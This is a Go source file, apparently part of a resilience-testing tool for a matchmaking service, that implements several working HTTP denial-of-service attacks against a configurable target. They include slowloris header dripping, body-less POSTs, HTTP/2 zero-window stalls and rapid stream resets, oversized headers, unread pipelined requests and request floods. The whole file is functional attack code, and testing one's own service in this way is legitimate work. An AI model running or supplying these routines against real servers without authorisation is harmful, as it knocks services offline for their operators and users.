package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"strings"
	"time"
)

// requests are attacks by HTTP that hold on to what a request takes.
func requests() []Kind {
	return []Kind{
		{Name: "bodies", Rate: 500, Doc: "posts to the matchmaking service, and never sends the body", run: noBodies},
		{Name: "windows", Rate: 100, Doc: "opens HTTP/2 connections with windows of nothing, asks for 64 pages by each, and reads none", run: noWindows},
		{Name: "unread", Rate: 300, Doc: "asks for the largest file of the pages by HTTP/1.1, again and again by one connection, and reads nothing", run: unread},
		{Name: "drip", Rate: 300, Doc: "sends headers byte by byte, one a second", run: drip},
		{Name: "headers", Rate: 400, Doc: "sends headers as long as they may be, and longer", run: longHeaders},
		{Name: "pages", Rate: 1000, Doc: "asks for / and /status.json as often as it can", run: pages},
		{Name: "resets", Rate: 200, Doc: "opens streams of HTTP/2 and resets them at once, a hundred by each connection", run: resets},
	}
}

// sending opens connections that each send something, and are then held.
func (s *Strike) sending(ctx context.Context, workers int, what string) {
	d := s.dialer()
	d.small = true
	s.repeat(ctx, workers, func(ctx context.Context, _ int) error {
		c, err := d.dial(ctx, "http/1.1")
		if err != nil {
			return err
		}
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err = io.WriteString(c, what); err != nil {
			_ = c.Close()
			return err
		}
		s.keep(c)
		return nil
	})
	s.hold(ctx)
}

func noBodies(ctx context.Context, s *Strike) error {
	s.sending(ctx, 4, "POST /tickroom.v1.MatchmakingService/ListRooms HTTP/1.1\r\nHost: "+s.Target.host()+
		"\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n")
	return nil
}

func unread(ctx context.Context, s *Strike) error {
	get := "GET " + s.largest(ctx) + " HTTP/1.1\r\nHost: " + s.Target.host() + "\r\n\r\n"
	s.sending(ctx, 4, strings.Repeat(get, 20))
	return nil
}

// largest returns the path of the largest file that the page at / names.
func (s *Strike) largest(ctx context.Context) string {
	a := &asker{d: s.dialer()}
	defer a.close()
	page, err := a.ask(ctx, "GET / HTTP/1.1\r\nHost: "+s.Target.host()+"\r\n\r\n")
	if err != nil {
		return "/"
	}
	best, length := "/", len(page)
	for part := range strings.SplitSeq(string(page), `"`) {
		if !strings.HasPrefix(part, "/") || !strings.HasSuffix(part, ".js") && !strings.HasSuffix(part, ".css") {
			continue
		}
		if b, err := a.ask(ctx, "GET "+part+" HTTP/1.1\r\nHost: "+s.Target.host()+"\r\n\r\n"); err == nil && len(b) > length {
			best, length = part, len(b)
		}
	}
	return best
}

// Types of frames of HTTP/2, RFC 9113.
const (
	h2Headers  = 1
	h2Reset    = 3
	h2Settings = 4
)

// h2 appends a frame of HTTP/2.
func h2(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	return append(binary.BigEndian.AppendUint32(b, stream), payload...)
}

// h2Begin appends what a client of HTTP/2 begins with: windows of nothing.
func h2Begin(b []byte) []byte {
	b = append(b, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"...)
	return h2(b, h2Settings, 0, 0, []byte{0, 4, 0, 0, 0, 0})
}

// h2Get appends a request for the page.
func h2Get(b []byte, t *Target, stream uint32) []byte {
	scheme := byte(0x86) // http, by HPACK's table
	if t.encrypted() {
		scheme = 0x87
	}
	head := append([]byte{0x82, scheme, 0x84, 0x01, byte(len(t.host()))}, t.host()...)
	return h2(b, h2Headers, 0x5, stream, head)
}

func noWindows(ctx context.Context, s *Strike) error {
	b := h2Begin(nil)
	for i := range uint32(64) {
		b = h2Get(b, s.Target, 2*i+1)
	}
	d := s.dialer()
	s.repeat(ctx, 4, func(ctx context.Context, _ int) error {
		c, err := d.dial(ctx, "h2")
		if err != nil {
			return err
		}
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err = c.Write(b); err != nil {
			_ = c.Close()
			return err
		}
		s.keep(c)
		return nil
	})
	s.hold(ctx)
	return nil
}

func resets(ctx context.Context, s *Strike) error {
	b := h2Begin(nil)
	for i := range uint32(100) {
		b = h2Get(b, s.Target, 2*i+1)
		b = h2(b, h2Reset, 0, 2*i+1, []byte{0, 0, 0, 8})
	}
	d := s.dialer()
	s.repeat(ctx, 4, func(ctx context.Context, _ int) error {
		c, err := d.dial(ctx, "h2")
		if err != nil {
			return err
		}
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(time.Second))
		if _, err = c.Write(b); err != nil {
			return err
		}
		_, err = io.CopyN(io.Discard, c, 200)
		return err
	})
	return nil
}

func drip(ctx context.Context, s *Strike) error {
	d := s.dialer()
	head := "GET / HTTP/1.1\r\nHost: " + s.Target.host() + "\r\nX-Drip: "
	s.repeat(ctx, 4, func(ctx context.Context, _ int) error {
		c, err := d.dial(ctx, "http/1.1")
		if err != nil {
			return err
		}
		_ = c.SetWriteDeadline(time.Now().Add(time.Second))
		if _, err = io.WriteString(c, head); err != nil {
			_ = c.Close()
			return err
		}
		s.keep(c)
		return nil
	})
	for s.Most == 0 && sleep(ctx, time.Second) {
		s.mu.Lock()
		for _, c := range s.kept {
			_ = c.SetWriteDeadline(time.Now().Add(time.Millisecond))
			_, _ = io.WriteString(c, "x")
		}
		s.mu.Unlock()
	}
	return nil
}

func longHeaders(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	long := strings.Repeat("X-Long: "+strings.Repeat("y", 1000)+"\r\n", 6)
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		n := s.done.Load()
		_, err := a.ask(ctx, fmt.Sprintf("GET /status.json HTTP/1.1\r\nHost: %s\r\n%s\r\n", host, strings.Repeat(long, 1+int(n%3))))
		return err
	})
	return nil
}

func pages(ctx context.Context, s *Strike) error {
	host := s.Target.host()
	paths := []string{"/", "/status.json", "/nowhere"}
	s.calling(ctx, 4, func(ctx context.Context, a *asker) error {
		_, err := a.ask(ctx, "GET "+paths[s.done.Load()%3]+" HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
		return err
	})
	return nil
}
